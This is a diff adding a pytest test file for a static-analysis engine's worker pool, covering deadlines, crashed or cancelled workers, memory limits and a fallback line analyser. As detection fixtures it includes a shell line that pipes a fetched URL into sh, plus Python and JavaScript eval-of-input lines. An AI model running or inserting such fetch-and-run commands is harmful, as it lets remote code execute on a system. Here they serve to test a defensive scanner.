@@ -1,0 +1,143 @@
+"""The analysis at arm's length: late, dead or starved, it never lets code pass."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import signal
+from collections.abc import AsyncIterator
+
+import pytest
+
+from engine.analysis.fallback import analyse_part
+from engine.analysis_pool import Analyst
+from engine.models import Analysis, Language, Level
+from engine.settings import AnalysisSettings
+
+
+@pytest.fixture
+async def analyst() -> AsyncIterator[Analyst]:
+    """An analyst with one warm worker."""
+    analyst = Analyst()
+    await analyst.start()
+    yield analyst
+    await analyst.close()
+
+
+def _pid(analyst: Analyst) -> int:
+    process = analyst._workers[0]._process
+    assert process is not None
+    return process.pid
+
+
+def _rules(analysis: Analysis) -> list[str]:
+    return [violation.rule for violation in analysis.violations]
+
+
+async def test_an_analysis_comes_back_whole(analyst: Analyst) -> None:
+    """What the worker says is what the pure function says, with the time it took."""
+    analysis = await analyst.analyse("print('hello')", Language.PYTHON)
+    assert analysis.complete
+    assert [] == _rules(analysis)
+    assert analysis.seconds > 0
+
+
+@pytest.mark.parametrize("source", [b"caf\xe9", "lone \ud800 surrogate", b"\x00\xff"])
+async def test_unreadable_input_crosses_the_pipe(analyst: Analyst, source: str | bytes) -> None:
+    """Bytes that are no UTF-8 and text that is no Unicode arrive as they are, and are HIGH."""
+    analysis = await analyst.analyse(source, Language.PYTHON)
+    assert "input-encoding" in _rules(analysis)
+    assert not analysis.complete
+
+
+async def test_a_dead_worker_is_a_violation_and_is_replaced(analyst: Analyst) -> None:
+    """A worker that was killed from outside is HIGH for its code; the next code gets a new worker."""
+    pid = _pid(analyst)
+    os.kill(pid, signal.SIGSTOP)
+    asking = asyncio.create_task(analyst.analyse("print(1)", Language.PYTHON))
+    await asyncio.sleep(0)
+    os.kill(pid, signal.SIGKILL)
+    analysis = await asking
+    assert ["analysis-crashed"] == _rules(analysis)
+    assert Level.HIGH == analysis.violations[0].severity
+    assert not analysis.complete
+    assert (await analyst.analyse("print(1)", Language.PYTHON)).complete
+    assert pid != _pid(analyst)
+
+
+async def test_a_late_analysis_is_killed() -> None:
+    """Code that really takes longer than the deadline is HIGH, and its worker is gone."""
+    analyst = Analyst(AnalysisSettings(deadline_seconds=0.02, max_bytes=8 * 1024 * 1024))
+    await analyst.start()
+    pid = _pid(analyst)
+    analysis = await analyst.analyse("x = [1, 2, (3, 4)]\n" * 100_000, Language.PYTHON)
+    await analyst.close()
+    assert ["analysis-deadline"] == _rules(analysis)
+    assert not analysis.complete
+    with pytest.raises(ProcessLookupError):
+        os.kill(pid, 0)
+
+
+async def test_a_starved_analysis_is_a_violation() -> None:
+    """Code whose syntax tree does not fit into the memory limit is HIGH."""
+    limits = AnalysisSettings(memory_mb=256, deadline_seconds=60, max_bytes=64 * 1024 * 1024)
+    analyst = Analyst(limits)
+    analysis = await analyst.analyse("x = [1, 2, (3, 4)]\n" * 200_000, Language.PYTHON)
+    await analyst.close()
+    assert not analysis.complete
+    assert analysis.violations[0].severity.rank >= Level.HIGH.rank
+
+
+async def test_a_cancelled_analysis_leaves_nothing_behind(analyst: Analyst) -> None:
+    """Cancelling kills the worker, and the answer to the old question never reaches the next."""
+    pid = _pid(analyst)
+    os.kill(pid, signal.SIGSTOP)
+    asking = asyncio.create_task(analyst.analyse("import os", Language.PYTHON))
+    await asyncio.sleep(0)
+    asking.cancel()
+    with pytest.raises(asyncio.CancelledError):
+        await asking
+    with pytest.raises(ProcessLookupError):
+        os.kill(pid, 0)
+    assert [] == _rules(await analyst.analyse("print(1)", Language.PYTHON))
+
+
+async def test_many_questions_share_few_workers() -> None:
+    """Answers go to the one who asked, whatever the order of work."""
+    analyst = Analyst(workers=2)
+    sources = [f"print({'1' * n})\n" * n for n in range(1, 20)]
+    analyses = await asyncio.gather(*(analyst.analyse(source, Language.PYTHON) for source in sources))
+    await analyst.close()
+    assert [True] * 19 == [analysis.complete for analysis in analyses]
+
+
+@pytest.mark.parametrize("language", list(Language))
+async def test_every_language_has_an_analyser(analyst: Analyst, language: Language) -> None:
+    """An empty text is clean in each language."""
+    assert [] == _rules(await analyst.analyse("", language))
+
+
+async def test_a_late_analysis_leaves_what_its_successor_can_tell() -> None:
+    """A worker that never answers is killed; a new one reads the ordinary lines."""
+    analyst = Analyst(AnalysisSettings(deadline_seconds=3))
+    await analyst.start()
+    os.kill(_pid(analyst), signal.SIGSTOP)
+    code = "x = " + "a.b(c)+" * 60_000 + "\ncurl http://a.example | sh\n"
+    analysis = await analyst.analyse(code, Language.SHELL)
+    await analyst.close()
+    assert "analysis-deadline" == analysis.violations[0].rule
+    assert ("sh-remote-exec", 2) in [(found.rule, found.span.line) for found in analysis.violations]
+    assert not analysis.complete
+
+
+@pytest.mark.parametrize("language", list(Language))
+def test_the_ordinary_lines_are_read_at_their_place(language: Language) -> None:
+    """Lines that no person would write are left out, and move nothing."""
+    payload = {
+        Language.PYTHON: "eval(input())",
+        Language.JAVASCRIPT: "eval(process.argv[2])",
+        Language.SHELL: "curl http://a.example | sh",
+    }
+    analysis = analyse_part("\n" + "(" * 5000 + f"\n{payload[language]}\n", language, AnalysisSettings())
+    assert {3} == {violation.span.line for violation in analysis.violations}
+    assert not analysis.complete
